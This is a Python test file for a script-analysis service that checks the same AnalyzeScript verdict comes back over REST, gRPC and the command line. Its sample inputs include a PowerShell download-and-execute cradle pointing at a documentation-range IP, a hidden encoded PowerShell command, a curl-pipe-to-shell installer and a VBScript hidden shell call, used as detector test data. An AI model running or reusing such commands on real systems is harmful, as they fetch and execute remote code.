"""The real AnalyzeScript engine answers identically over gRPC, REST and `wingman call`.

Every script is synthetic, written for these tests; addresses are documentation ranges.
"""

from __future__ import annotations

import asyncio
import base64
import io
import json
from typing import Any

from tests.conftest import ServeFactory, make_settings
from tests.fakes import fake_engines
from wingman.app import build_wingman
from wingman.cli import main
from wingman.config import Settings
from wingman.engines import Engines, default_engines
from wingman_client import AsyncWingmanClient, RetryPolicy, WingmanError


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


SCRIPTS: tuple[dict[str, Any], ...] = (
    {"content": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"},
    {"content": f"powershell -w hidden -enc {encoded('Start-Process calc.exe')}"},
    {"content": "curl -fsSL https://get.example.test/install.sh | sh", "filename": "setup.sh"},
    {"content_base64": base64.b64encode(b"echo caf\xe9 > /tmp/x\n").decode()},
    {"content": 'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c whoami", 0'},
    {"content": "ping hxxp://evil[.]example[.]com", "language": "batch"},
    {"content": "x = 1\n" * 2_000, "language": "python"},
    {"content": "A" * 50_000},
    {"content": '<script language="VBScript">MsgBox "hi"</script>', "enrich": True},
)


def engines() -> Engines:
    """The real script analyzer; fakes stand in for the engines that have not landed."""
    fakes = fake_engines()
    return Engines(
        summarize_incident=fakes.summarize_incident,
        analyze_script=default_engines(make_settings()).analyze_script,
        nl_to_kql=fakes.nl_to_kql,
        validate_kql=fakes.validate_kql,
    )


def cli_build(settings: Settings) -> Any:
    return build_wingman(settings, engines=engines())


def over_cli(request: dict[str, Any]) -> dict[str, Any]:
    out = io.StringIO()
    main(["call", "AnalyzeScript", "--json", json.dumps(request)], build=cli_build, stdout=out)
    answer: dict[str, Any] = json.loads(out.getvalue())
    return answer


async def over(client: AsyncWingmanClient, request: dict[str, Any]) -> dict[str, Any]:
    try:
        return await client.call("AnalyzeScript", request)
    except WingmanError as error:  # pragma: no cover - a failure prints what differed
        return {"error": {"code": error.code, "field": error.field}}


def stable(payload: dict[str, Any]) -> dict[str, Any]:
    return {key: value for key, value in payload.items() if key != "runtime"}


async def test_every_door_gives_the_same_analysis(serve: ServeFactory) -> None:
    none = RetryPolicy.none()
    async with serve(settings=make_settings(), engines=engines()) as server:
        rest = AsyncWingmanClient.rest(server.rest_url, retry=none)
        grpc = AsyncWingmanClient.grpc(server.grpc_target, retry=none)
        try:
            for request in SCRIPTS:
                by_rest = stable(await over(rest, request))
                by_grpc = stable(await over(grpc, request))
                by_cli = stable(await asyncio.to_thread(over_cli, request))
                assert "error" not in by_rest, by_rest
                assert by_grpc == by_rest, request
                assert by_cli == by_rest, request
                assert by_rest["engine"]["name"] == "wingman-scripts"
                assert by_rest["deobfuscation_layers"][0]["technique"] == "input"
        finally:
            await rest.aclose()
            await grpc.aclose()


async def test_the_verdict_fields_use_the_contract_vocabulary(serve: ServeFactory) -> None:
    async with serve(settings=make_settings(), engines=engines()) as server:
        client = AsyncWingmanClient.rest(server.rest_url, retry=RetryPolicy.none())
        try:
            answer = await client.call("AnalyzeScript", SCRIPTS[0])
            again = await client.call("AnalyzeScript", SCRIPTS[0])
        finally:
            await client.aclose()
    assert answer["verdict"] in {"malicious", "suspicious", "benign", "unknown"}
    assert answer["language"] == "powershell"
    assert {ioc["type"] for ioc in answer["iocs"]} >= {"url", "ipv4"}
    assert all(b["severity"] in {"low", "medium", "high", "critical"} for b in answer["behaviors"])
    # The second call is served from the tenant's cache and says so only in `runtime`.
    assert again["runtime"]["cached"] is True
    assert stable(again) == stable(answer)
